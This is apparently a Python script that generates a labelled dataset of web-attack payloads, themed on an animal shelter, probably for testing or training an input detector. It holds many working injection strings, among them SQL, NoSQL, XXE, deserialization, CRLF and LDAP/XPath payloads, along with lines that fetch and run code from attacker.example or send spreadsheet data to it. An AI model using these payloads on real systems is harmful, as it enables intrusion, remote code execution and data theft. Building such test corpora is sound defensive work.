php-assert ⟫ ').system('id');//
ruby-eval ⟫ #{Kernel.exec('id')}
perl-eval ⟫ ";system('id');#
prototype-pollution ⟫ {"__proto__":{"isAdmin":true}}
prototype-pollution ⟫ {"constructor":{"prototype":{"role":"admin"}}}
prototype-pollution-param ⟫ __proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//
csv-formula ⟫ =cmd|'/C calc'!A0
csv-formula ⟫ =HYPERLINK("https://attacker.example/?d="&A2&B2,"Click for Biscuit's photos")
csv-formula-plus ⟫ +cmd|'/c powershell IEX(wget attacker.example/a)'!A1
csv-formula-at ⟫ @SUM(1+1)*cmd|' /C calc'!A0
csv-formula-dde ⟫ -2+3+cmd|' /C notepad'!'A1'
csv-formula-webservice ⟫ =WEBSERVICE("https://attacker.example/x?"&A1)
csv-formula-importxml ⟫ =IMPORTXML(CONCAT("https://attacker.example/?v=",A2),"//a")
xxe-file ⟫ <?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><manifest><crate>&x;</crate></manifest>
xxe-parameter-oob ⟫ <?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd">%p;]><d/>
xxe-ssrf ⟫ <!DOCTYPE r [<!ENTITY s SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&s;</r>
xinclude ⟫ <animal xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></animal>
xxe-billion-laughs ⟫ <!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>
yaml-python ⟫ !!python/object/apply:os.system ["id"]
yaml-python-new ⟫ !!python/object/new:subprocess.check_output [["curl","attacker.example"]]
yaml-snakeyaml ⟫ !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
pickle-b64 ⟫ gASVHQAAAAAAAACMAm9zlIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
pickle-protocol0 ⟫ cos ¶ system ¶ (S'id' ¶ tR.
dotnet-typename ⟫ {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}
php-unserialize ⟫ O:8:"Kennelcd":1:{s:4:"file";s:11:"/etc/passwd";}
jackson-polymorphic ⟫ ["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/x","autoCommit":true}]
fastjson-autotype ⟫ {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.5:1099/x","autoCommit":true}
""")

LIT["nosqli"] = L("""
plain-ne ⟫ {"$ne": null}
plain-gt ⟫ {"$gt": ""}
login-ne ⟫ {"username": "admin", "password": {"$ne": "x"}}
search-regex ⟫ {"name": {"$regex": ".*"}}
search-regex-blind ⟫ {"password": {"$regex": "^a"}}
where-js ⟫ {"$where": "this.species == 'dog' || sleep(5000)"}
where-js ⟫ {"$where": "function(){ return true; }"}
param-bracket-ne ⟫ password[$ne]=biscuit
param-bracket-gt ⟫ email[$gt]=&password[$gt]=
param-bracket-regex ⟫ adopter[$regex]=^.*&status[$ne]=rejected
param-bracket-in ⟫ role[$in][]=admin&role[$in][]=staff
kennel-filter-or ⟫ {"$or": [{"kennel": "14B"}, {"isAdmin": true}]}
expr-function ⟫ {"$expr": {"$function": {"body": "function(){sleep(3000);return true}", "args": [], "lang": "js"}}}
lookup-injection ⟫ [{"$lookup": {"from": "staff_users", "localField": "x", "foreignField": "x", "as": "leak"}}]
string-js-breakout ⟫ Biscuit'; return true; var x='
string-js-breakout ⟫ '; while(true){}; '
exists-bypass ⟫ {"token": {"$exists": false}}
nin-bypass ⟫ {"status": {"$nin": []}}
type-bypass ⟫ {"password": {"$type": 2}}
mapreduce-js ⟫ {"mapReduce": "adopters", "map": "function(){emit(1,db.getCollectionNames())}", "reduce": "function(k,v){return v}"}
couch-mango-regex ⟫ {"selector": {"email": {"$regex": "(?i).*"}}, "fields": ["email", "phone"]}
elastic-script ⟫ {"script": {"source": "java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\")"}}
redis-eval-string ⟫ EVAL "return redis.call('config','get','*')" 0
foster-json-where ⟫ {"foster": "Priya", "$where": "sleep(4000) || true"}
chip-lookup-ne ⟫ {"chip": {"$ne": "985112003456789"}, "owner_phone": {"$gt": ""}}
""")

LIT["crlf"] = L("""
log-forge-newline ⟫ Biscuit ¶ 2024-03-12 10:00:01 INFO user=admin action=approve_adoption id=1187 result=success
log-forge-crlf-encoded ⟫ Luna%0d%0a2024-03-12T10:00:00Z INFO login succeeded for user=director
log-forge-lf-encoded ⟫ kennel14%0a[AUDIT] fee waived by admin
log-forge-unicode-nl ⟫ Mochi\\u000d\\u000a[INFO] donation refunded to attacker@attacker.example
log-forge-cr-only ⟫ Reggie␍ERROR: audit log truncated
header-set-cookie ⟫ thanks%0d%0aSet-Cookie:%20session=attacker-fixed-id
header-set-cookie-raw ⟫ en-US␍␊Set-Cookie: admin=1; Path=/
header-location ⟫ /adopt%0d%0aLocation:%20https://attacker.example/phish
response-splitting ⟫ %0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
response-splitting ⟫ foster%0D%0A%0D%0A<html><body>Your adoption was rejected, log in at attacker.example</body></html>
header-xss-protection ⟫ %0d%0aX-XSS-Protection:%200%0d%0a%0d%0a<svg onload=alert(1)>
header-cors ⟫ x%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true
double-encoded-crlf ⟫ Biscuit%250d%250aSet-Cookie:%2520sid=evil
utf8-overlong-crlf ⟫ %c0%8d%c0%8aSet-Cookie:%20x=1
unicode-line-sep ⟫ lab%E5%98%8A%E5%98%8DSet-Cookie:%20x=y
mail-header-bcc ⟫ adopter@example.org%0d%0aBcc:%20all-donors@attacker.example
mail-header-bcc ⟫ kim.nguyen@example.org ¶ Bcc: victims@attacker.example
mail-header-cc-raw ⟫ priya@cityshelter.example.org␍␊Cc: list@attacker.example
mail-subject-injection ⟫ Adoption inquiry%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<a href=https://attacker.example>Verify your donation</a>
mail-from-injection ⟫ Jean-Luc <jl@example.net>%0aReply-To:%20pay@attacker.example
smtp-command-injection ⟫ foster@example.org%0d%0a.%0d%0aMAIL FROM:<x@attacker.example>%0d%0aRCPT TO:<director@cityshelter.example.org>%0d%0aDATA
donor-name-header ⟫ Margaret Olsen ¶ X-Forwarded-For: 127.0.0.1
redirect-param-crlf ⟫ /pets/A0049213%0d%0aRefresh:%200;url=https://attacker.example/
http2-pseudo-header ⟫ x ¶ :authority: internal.admin
log-forge-json-line ⟫ Pepper ¶ {"level":"info","msg":"adoption approved","user":"director"}
header-injection-host ⟫ cityshelter.example.org%0d%0aX-Original-URL:%20/admin
csv-log-newline ⟫ 2024-03-12,Biscuit,adopted ¶ 2024-03-12,ALL,deleted_by_admin
""")

LIT["ldap-xpath"] = L("""
ldap-wildcard-login ⟫ *)(uid=*))(|(uid=*
ldap-or-true ⟫ admin)(|(password=*))
ldap-and-bypass ⟫ staff*)(&(objectClass=*)
ldap-null-close ⟫ priya)(&)
ldap-attr-leak ⟫ *)(userPassword=*
ldap-blind-char ⟫ admin)(userPassword=a*
ldap-foster-filter ⟫ Foster Coordinators)(|(cn=*
ldap-encoded ⟫ %2a%29%28objectClass%3d%2a
xpath-or-true ⟫ ' or '1'='1
xpath-or-true-dq ⟫ Biscuit" or "a"="a
xpath-login-bypass ⟫ ' or 1=1 or ''='
xpath-union-nodes ⟫ ')] | //staff/user/password | //*[('
xpath-blind-substring ⟫ ' and substring(//staff/user[1]/password,1,1)='a' and '1'='1
xpath-count ⟫ ' or count(//adopter)>0 or 'x'='y
xpath-name-function ⟫ ' or name(/*[1])='shelter' or 'a'='b
xpath-doc-ssrf ⟫ ' and doc('http://attacker.example/x')//a or '1'='1
ldap-dn-injection ⟫ cn=Biscuit,ou=animals,dc=shelter,dc=local)(|(objectClass=*
xpath-string-length ⟫ Luna' and string-length(//user[1]/password)>8 and 'a'='a
""")

# ---- templated values: hand-written prefixes joined to hand-written payloads, or one encoding ----
PREFIXES = ["Kennel 14B note: ", "Intake A0049213 — ", "Foster update: ", "Donor msg: ",
            "LOST: orange tabby ", "Crate 4: Luna (cat) ", "Vax note DHPP #2 ", "Adopter name: "]

TEMPLATED = {
    "sqli": ("prefix", "note-prefix-", ["' UNION SELECT login,password FROM staff_users-- -", "' AND SLEEP(6)#",
                                         "'; WAITFOR DELAY '0:0:6'--", "' OR 1=1--"], 4),
    "sqli+": ("urlencode", "+urlencode", [("union-select", "' UNION SELECT login,password FROM staff_users-- -"),
                                          ("mysql-sleep", "Biscuit' AND SLEEP(5)-- -"), ("id-boolean-number", "1 OR 1=1")], 3),
    "xss": ("prefix", "note-prefix-", ["<svg onload=alert(1)>", "<img src=x onerror=alert(document.cookie)>",
                                        "<script>alert(1)</script>"], 4),
    "xss+": ("urlencode", "+urlencode", [("script", "<script>alert(1)</script>"), ("attr-breakout-tag", "\"><img src=x onerror=alert(1)>")], 2),
    "cmdi": ("prefix", "note-prefix-", ["; cat /etc/passwd", "$(curl attacker.example|sh)", "| id"], 2),
    "cmdi+": ("urlencode", "+urlencode", [("semicolon-curl", ";curl attacker.example/s|sh"), ("windows-and", "&& type C:\\Windows\\win.ini")], 2),
    "traversal": ("urlencode", "+urlencode", [("dotdot", "../../../../etc/passwd"), ("windows-dotdot", "..\\..\\..\\windows\\win.ini"),
                                              ("photo-path-dotdot", "photos/../../../../proc/self/environ")], 3),
    "ssrf": ("urlencode", "+urlencode", [("metadata", "http://169.254.169.254/latest/meta-data/"), ("localhost-redis", "http://127.0.0.1:6379/")], 2),
    "code": ("prefix", "note-prefix-", ["{{7*'7'}}{{config}}", "${jndi:ldap://attacker.example/a}",
                                         "<%= `id` %>", "${T(java.lang.Runtime).getRuntime().exec('id')}"], 3),
    "nosqli": ("urlencode", "+urlencode", [("param-bracket-ne", "password[$ne]=x"), ("where-js", "{\"$where\": \"sleep(5000)\"}")], 2),
    "crlf": ("prefix", "note-prefix-", ["%0d%0aSet-Cookie:%20sid=evil", "\nINFO admin login ok",
                                         "%0d%0aBcc:%20x@attacker.example"], 3),
    "ldap-xpath": ("prefix", "note-prefix-", ["*)(uid=*))(|(uid=*", "' or '1'='1"], 2),
}

PREFIX_CLASS = {"sqli": "sqli", "xss": "xss", "cmdi": "shell", "code": "code", "crlf": "crlf", "ldap-xpath": "filter"}


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    rows = []
    n = 0
    for cat in order:
        items = list(LIT[cat])
        vals = [v for _, v in items]
        assert len(set(vals)) == len(vals), (cat, [v for v in vals if vals.count(v) > 1])
        seen = set(vals)
        for key in (cat, cat + "+"):
            if key not in TEMPLATED:
                continue
            kind, cls, payloads, count = TEMPLATED[key]
            made = 0
            guard = 0
            while made < count:
                guard += 1
                assert guard < 1000
                p = rng.choice(payloads)
                if kind == "prefix":
                    v = rng.choice(PREFIXES) + p
                    c = cls + PREFIX_CLASS[cat]
                else:
                    c, p = p[0] + cls, p[1]
                    v = quote(p, safe="")
                if v in seen:
                    if kind == "urlencode":
                        payloads = [x for x in payloads if quote(x[1], safe="") not in seen]
                        if not payloads:
                            break
                    continue
                seen.add(v)
                items.append((c, v))
                made += 1
        for c, v in items:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": c, "label": "attack", "value": v})
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
